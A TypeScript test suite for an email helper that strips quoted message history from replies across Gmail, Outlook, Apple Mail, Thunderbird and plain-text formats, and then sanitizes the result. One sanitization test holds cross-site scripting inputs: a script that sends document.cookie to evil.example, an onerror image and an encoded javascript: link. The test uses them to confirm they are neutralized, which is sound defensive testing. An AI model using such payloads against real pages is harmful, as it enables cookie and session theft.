import { MAX_INBOUND_HTML_LIMITS, stripQuotedReply } from '../../libs/rich-text/quoted-reply.js';

/** Stands in the quoted earlier message of every sample: none of it may come back. */
const SECRET = 'Biopsy PURPLE-ELEPHANT-4417';
const SENDER = 'jane.doe@clinic.example';

function expectNoHistory(result: { html: string; text: string }): void {
  for (const field of [result.html, result.text]) {
    expect(field).not.toContain('PURPLE-ELEPHANT');
    expect(field).not.toContain(SENDER);
    expect(field).not.toMatch(/wrote:|Original Message|Sent:/);
  }
}

describe('stripQuotedReply: Gmail', () => {
  const html =
    '<div dir="ltr">Thanks, Tuesday at 3pm works for me.<div><br></div><div>Ada</div></div><br>' +
    '<div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Mon, Jan 8, 2024 at 10:15\u202fAM Jane Doe &lt;' +
    `<a href="mailto:${SENDER}">${SENDER}</a>&gt; wrote:<br></div>` +
    '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">' +
    `<div dir="ltr">Hello Ada,<div><br></div><div>${SECRET}. Can you come in on Tuesday?</div></div></blockquote></div>`;
  // Gmail wraps its text part at 78 columns, which puts "wrote:" on a line of its own.
  const text =
    'Thanks, Tuesday at 3pm works for me.\r\n\r\nAda\r\n\r\n' +
    `On Mon, Jan 8, 2024 at 10:15 AM Jane Doe <${SENDER}>\r\nwrote:\r\n\r\n` +
    `> Hello Ada,\r\n>\r\n> ${SECRET}. Can you come in on Tuesday?\r\n>\r\n`;

  test('html part: the reply stays, gmail_quote and its attribution go', () => {
    const result = stripQuotedReply({ html, text });

    expect(result.text).toBe('Thanks, Tuesday at 3pm works for me.\n\nAda');
    expect(result.html).toContain('Thanks, Tuesday at 3pm works for me.');
    expectNoHistory(result);
  });

  test('text part alone: an attribution wrapped over two lines and the > lines go', () => {
    const result = stripQuotedReply({ text });

    expect(result.text).toBe('Thanks, Tuesday at 3pm works for me.\n\nAda');
    expect(result.html).toBe('<p>Thanks, Tuesday at 3pm works for me.</p><p>Ada</p>');
    expectNoHistory(result);
  });
});

describe('stripQuotedReply: Outlook', () => {
  test('Outlook on the web: appendonsend, the rule and divRplyFwdMsg with everything after them go', () => {
    const html =
      '<html><head><style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style></head><body dir="ltr">' +
      '<div style="font-family: Calibri, Arial; font-size: 12pt;">Yes, I can confirm the appointment.</div>' +
      '<div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1">' +
      '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">' +
      `<b>From:</b> Jane Doe &lt;${SENDER}&gt;<br><b>Sent:</b> Monday, January 8, 2024 10:15 AM<br>` +
      '<b>To:</b> Ada &lt;ada@example.com&gt;<br><b>Subject:</b> Results</font><div>&nbsp;</div></div>' +
      `<div class="BodyFragment"><font size="2"><span style="font-size:11pt;"><div class="PlainText">${SECRET}</div></span></font></div>` +
      '</body></html>';

    const result = stripQuotedReply({ html });

    expect(result.text).toBe('Yes, I can confirm the appointment.');
    expect(result.html).not.toContain('<hr');
    expectNoHistory(result);
  });

  test('the divRplyFwdMsg marker works whatever language the header block is in', () => {
    const html =
      '<div>Dziękuję, będę we wtorek.</div><hr tabindex="-1" style="display:inline-block; width:98%">' +
      `<div id="divRplyFwdMsg" dir="ltr"><b>Od:</b> Jane Doe &lt;${SENDER}&gt;<br><b>Wysłane:</b> poniedziałek, 8 stycznia 2024 10:15<br>` +
      `<b>Temat:</b> Wyniki</div><div>${SECRET}</div>`;

    const result = stripQuotedReply({ html });

    expect(result.text).toBe('Dziękuję, będę we wtorek.');
    expectNoHistory(result);
  });

  test('Outlook desktop: the From:/Sent: header block and the quoted body under it go', () => {
    const html =
      '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="utf-8"><style><!-- p.MsoNormal {margin:0cm;} --></style></head>' +
      '<body lang="EN-US"><div class="WordSection1"><p class="MsoNormal">Confirmed, see you then.<o:p></o:p></p>' +
      '<p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Ada<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p>' +
      '<div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">' +
      `<p class="MsoNormal"><b>From:</b> Jane Doe &lt;${SENDER}&gt; <br><b>Sent:</b> Monday, January 8, 2024 10:15 AM<br>` +
      '<b>To:</b> Ada &lt;ada@example.com&gt;<br><b>Subject:</b> Results<o:p></o:p></p></div></div>' +
      `<p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">${SECRET}<o:p></o:p></p></div></body></html>`;

    const result = stripQuotedReply({ html });

    expect(result.text).toBe('Confirmed, see you then.\n\nAda');
    expectNoHistory(result);
  });

  test('Outlook plain text: the line of underscores and the header block after it go', () => {
    const text =
      'Confirmed, see you then.\r\n\r\n________________________________\r\n' +
      `From: Jane Doe <${SENDER}>\r\nSent: Monday, January 8, 2024 10:15 AM\r\nTo: Ada <ada@example.com>\r\nSubject: Results\r\n\r\n${SECRET}\r\n`;

    const result = stripQuotedReply({ text });

    expect(result.text).toBe('Confirmed, see you then.');
    expectNoHistory(result);
  });

  test('"-----Original Message-----" and everything after it go', () => {
    const text =
      'Thank you, received.\n\n-----Original Message-----\n' +
      `From: Jane Doe [mailto:${SENDER}]\nSent: Monday, January 8, 2024 10:15 AM\nSubject: Results\n\n${SECRET}\n`;

    const result = stripQuotedReply({ text });

    expect(result.text).toBe('Thank you, received.');
    expectNoHistory(result);
  });
});

describe('stripQuotedReply: Apple Mail', () => {
  test('macOS: blockquote type=cite with the attribution inside it goes', () => {
    const html =
      '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>' +
      '<body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">Sounds good, thank you!<div><br></div><div>Ada</div>' +
      `<div><br><blockquote type="cite"><div>On 8 Jan 2024, at 10:15, Jane Doe &lt;${SENDER}&gt; wrote:</div>` +
      `<br class="Apple-interchange-newline"><div><div>${SECRET}</div></div></blockquote></div><br></body></html>`;

    const result = stripQuotedReply({ html });

    expect(result.text).toBe('Sounds good, thank you!\n\nAda');
    expectNoHistory(result);
  });

  test('iOS / older macOS: the attribution just before the blockquote goes with it', () => {
    const html =
      '<html><body dir="auto">On my way, 10 minutes late.<br><br><div dir="ltr">Sent from my iPhone</div>' +
      `<div dir="ltr"><br><div>On Jan 8, 2024, at 10:15 AM, Jane Doe &lt;${SENDER}&gt; wrote:</div><br class="Apple-interchange-newline"></div>` +
      `<blockquote type="cite"><div dir="ltr">${SECRET}</div></blockquote></body></html>`;

    const result = stripQuotedReply({ html });

    expect(result.text).toBe('On my way, 10 minutes late.\n\nSent from my iPhone');
    expectNoHistory(result);
  });
});

describe('stripQuotedReply: Thunderbird', () => {
  test('moz-cite-prefix and blockquote type=cite go', () => {
    const html =
      '<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>' +
      '<p>I will bring the signed forms.</p><p>Ada<br></p>' +
      `<div class="moz-cite-prefix">On 08/01/2024 10:15, Jane Doe wrote:<br></div>` +
      `<blockquote type="cite" cite="mid:abc123@clinic.example"><p>${SECRET}</p><div class="moz-signature">Jane, ${SENDER}</div></blockquote>` +
      '</body></html>';
    const text = `I will bring the signed forms.\n\nAda\n\nOn 08/01/2024 10:15, Jane Doe wrote:\n> ${SECRET}\n`;

    const result = stripQuotedReply({ html, text });

    expect(result.text).toBe('I will bring the signed forms.\n\nAda');
    expectNoHistory(result);
  });
});

describe('stripQuotedReply: plain text', () => {
  test('> lines at the end go, with the "… wrote:" line that introduces them', () => {
    const text = `Got it, thanks.\nSee you Tuesday.\n\nJane Doe wrote:\n> ${SECRET}\n>\n> Kind regards, Jane\n\n`;

    const result = stripQuotedReply({ text });

    expect(result.text).toBe('Got it, thanks.\nSee you Tuesday.');
    expect(result.html).toBe('<p>Got it, thanks.<br />See you Tuesday.</p>');
    expectNoHistory(result);
  });

  test('a reply written below the quote survives, the quote goes', () => {
    const text = `On Mon, Jan 8, 2024 at 10:15 AM Jane Doe <${SENDER}> wrote:\n> ${SECRET}\n> Tuesday?\n\nTuesday is fine.\n`;

    const result = stripQuotedReply({ text });

    expect(result.text).toBe('Tuesday is fine.');
    expectNoHistory(result);
  });

  test('an interleaved answer keeps its > context lines: they are part of what the person wrote', () => {
    const text = '> Can you come Tuesday?\nYes.\n> Fasting needed?\nNo, just water.\n';

    expect(stripQuotedReply({ text }).text).toBe(text.trim());
  });

  test('ordinary sentences that merely look like headers are not taken for quotes', () => {
    const text = 'On Monday I wrote the report.\nFrom: the lab, everything looks fine.\n\nOn the 8th the doctor wrote: "all clear".\nAda';

    expect(stripQuotedReply({ text }).text).toBe(text);
  });
});

describe('stripQuotedReply: choosing and falling back', () => {
  test('a bottom-posted html reply below a blockquote survives', () => {
    const html = `<div><blockquote type="cite"><div>${SECRET}</div></blockquote><div>My answer is below the quote.</div></div>`;

    const result = stripQuotedReply({ html });

    expect(result.text).toBe('My answer is below the quote.');
    expectNoHistory(result);
  });

  test('a bottom-posted html reply survives when the attribution stands just outside the blockquote', () => {
    const html =
      `<div>On Jan 8, 2024, at 10:15 AM, Jane Doe &lt;${SENDER}&gt; wrote:</div><br>` +
      `<blockquote type="cite"><div>${SECRET}</div></blockquote><div>Answering below, as I was taught.</div>`;

    const result = stripQuotedReply({ html });

    expect(result.text).toBe('Answering below, as I was taught.');
    expectNoHistory(result);
  });

  test('the text part is used when nothing is left of the html part', () => {
    const result = stripQuotedReply({
      html: `<div class="gmail_quote"><blockquote class="gmail_quote">${SECRET}</blockquote></div>`,
      text: `Answer only in the text part\n\n> ${SECRET}\n`,
    });

    expect(result.text).toBe('Answer only in the text part');
    expect(result.html).toBe('<p>Answer only in the text part</p>');
  });

  test('an email whose whole content was quote gives empty strings', () => {
    expect(
      stripQuotedReply({
        html: `<div class="gmail_quote"><div class="gmail_attr">On Mon, Jan 8, 2024 at 10:15 AM Jane wrote:</div><blockquote class="gmail_quote">${SECRET}</blockquote></div>`,
        text: `On Mon, Jan 8, 2024 at 10:15 AM Jane wrote:\n> ${SECRET}\n`,
      }),
    ).toEqual({ html: '', text: '' });
    expect(stripQuotedReply({ text: `> ${SECRET}\n> more\n` })).toEqual({ html: '', text: '' });
    expect(stripQuotedReply({})).toEqual({ html: '', text: '' });
  });

  // How long these take is measured by the bench (case `sanitize`), not asserted here.
  test('an html part absurdly deep is passed over for the text part', () => {
    const result = stripQuotedReply({ html: `${'<div>'.repeat(50_000)}deep${'</div>'.repeat(50_000)}`, text: 'Plain reply' });

    expect(result.text).toBe('Plain reply');
  });

  test('depth hidden from a tag count (end tags in comments and attributes) is depth all the same', () => {
    for (const unit of ['<b><!--</b>-->', '<b title="</b>">']) {
      const result = stripQuotedReply({ html: `${unit.repeat(5_000)}deep`, text: 'Plain reply' });

      expect(result.text).toBe('Plain reply');
    }
  });

  test('an html part with tens of thousands of elements is passed over for the text part', () => {
    const result = stripQuotedReply({ html: '<p>x</p>'.repeat(100_000), text: 'Plain reply' });

    expect(result.text).toBe('Plain reply');
  });

  test('a reply nested deeper than a body may be keeps its text, and the quote below it still goes', () => {
    const html = `${'<div>'.repeat(200)}Deep reply${'</div>'.repeat(200)}<div class="gmail_quote"><blockquote class="gmail_quote">${SECRET}</blockquote></div>`;

    const result = stripQuotedReply({ html });

    expect(result.text).toBe('Deep reply');
    expectNoHistory(result);
  });

  test('a reply with more elements than a mail may have arrives with its text, beyond them unformatted', () => {
    const result = stripQuotedReply({ html: '<p>line</p>'.repeat(MAX_INBOUND_HTML_LIMITS.maxElements + 500) });

    expect(result.text.split(/\s+/)).toHaveLength(MAX_INBOUND_HTML_LIMITS.maxElements + 500);
    expect(result.html).not.toMatch(/<p>line<\/p>/);
  });

  test('an HTML-only mail too busy to parse still brings its words, and nothing of its scripts, styles or tags', () => {
    const busy = '<span>x</span>'.repeat(MAX_INBOUND_HTML_LIMITS.maxElements);
    const html = `<style>p { color: red }</style><p>Thanks &amp; see you <b>Tuesday</b> &#x1F600;</p><script>alert(1)</script>${busy}`;

    const result = stripQuotedReply({ html });

    expect(result.text).toMatch(/^Thanks & see you Tuesday 😀/);
    expect(result.text).not.toMatch(/color|alert/);
    expect(result.html).not.toMatch(/<(b|span|script|style)\b/);
    expect(result.html).toContain('Thanks &amp; see you');
  });

  test('of a text part, only as much as a body may hold is read: the reply stays, the quoted history beyond goes', () => {
    const history = `On Mon, Jan 8, 2024 at 10:15 AM Jane Doe <${SENDER}> wrote:\n${`> ${SECRET} and more of the thread\n`.repeat(100_000)}`;

    const result = stripQuotedReply({ text: `Thanks, see you Tuesday.\n\n${history}` });

    expect(result.text).toBe('Thanks, see you Tuesday.');
    expectNoHistory(result);
  });
});

describe('stripQuotedReply: what is left is sanitized', () => {
  test('a reply carrying a script, an onerror image and a javascript: link comes out inert', () => {
    const html =
      '<div>Here you go <script>document.location="https://evil.example/?c="+document.cookie</script>' +
      '<img src=x onerror="alert(1)"><a href="jav&#x61;script:alert(2)" onclick="alert(3)">the form</a>' +
      ' and &lt;b&gt;this&lt;/b&gt; is literal.</div>' +
      `<div class="gmail_quote"><blockquote class="gmail_quote">${SECRET}</blockquote></div>`;

    const result = stripQuotedReply({ html });

    expect(result.html).toBe(
      '<div>Here you go <a rel="noopener noreferrer nofollow" target="_blank">the form</a> and &lt;b&gt;this&lt;/b&gt; is literal.</div>',
    );
    expect(result.text).toBe('Here you go the form and <b>this</b> is literal.');
    expectNoHistory(result);
  });

  test('a plain-text reply with markup in it stays text', () => {
    const result = stripQuotedReply({ text: '<script>alert(1)</script> is what I saw\n\n> quoted' });

    expect(result.html).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt; is what I saw</p>');
    expect(result.text).toBe('<script>alert(1)</script> is what I saw');
  });

  test.each([
    ['a lone <', '<'],
    ['an unterminated attribute', '<a href="https://example.com'],
    ['stray end tags', '</div></blockquote></p>text'],
    ['an unterminated comment', 'text<!-- never closed'],
    ['a CDATA section', '<![CDATA[x]]>text'],
    ['a bare quote marker', '<blockquote type="cite">'],
    ['an Outlook marker and nothing else', '<div id="appendonsend">'],
    ['a lone surrogate and NUL', 'a\ud800b\u0000c'],
  ])('malformed input (%s) never throws', (_, junk) => {
    const result = stripQuotedReply({ html: junk, text: junk });

    expect(typeof result.html).toBe('string');
    expect(typeof result.text).toBe('string');
    expect(result.html).not.toContain('\u0000');
  });
});
